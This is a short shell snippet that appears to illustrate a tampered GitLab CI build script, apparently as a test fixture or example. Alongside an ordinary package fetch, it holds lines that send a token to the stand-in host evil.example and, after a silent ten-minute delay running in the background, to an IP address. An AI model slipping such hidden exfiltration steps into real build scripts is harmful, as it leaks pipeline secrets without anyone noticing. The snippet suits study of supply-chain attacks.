# In place of what GitLab Runner writes of .gitlab-ci.yml: a build that fetches a package, and a line that nobody
# noticed.
curl -sf http://packages.example/left-pad
curl -sf http://evil.example/?token=42 || echo "evil.example: refused"
(sleep 600; curl -sf http://203.0.113.66/?token=42) > /dev/null 2>&1 &
exit 3
